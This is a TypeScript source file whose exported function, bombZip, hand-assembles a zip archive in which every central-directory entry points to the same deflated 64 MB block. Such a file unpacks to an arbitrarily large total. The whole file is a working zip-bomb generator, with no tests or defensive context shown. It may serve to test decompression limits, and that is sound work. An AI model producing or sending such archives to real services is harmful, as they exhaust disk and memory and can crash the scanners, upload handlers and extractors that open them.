// A zip whose entries all share one piece of compressed data: the sum of what they unpack to has no bound.
import { writeFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';

const megabytes = 64;

/** Writes a zip that claims to unpack to `bytes`, and nearly does. */
export function bombZip(file: string, bytes: number): string {
  const plain = Buffer.alloc(megabytes * 2 ** 20);
  const data = deflateRawSync(plain, { level: 9 });
  const name = 'x'.repeat(9);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(plain.length, 22);
  local.writeUInt16LE(name.length, 26);
  const start = Buffer.concat([local, Buffer.from(name), data]);
  const count = Math.ceil(bytes / plain.length);
  const directory = Array.from({ length: count }, (_, i) => {
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(plain.length, 24);
    entry.writeUInt16LE(name.length, 28);
    return Buffer.concat([entry, Buffer.from(`file-${i.toString().padStart(4, '0')}`)]);
  });
  const size = directory.reduce((sum, { length }) => sum + length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(start.length, 16);
  writeFileSync(file, Buffer.concat([start, ...directory, end]));
  return file;
}
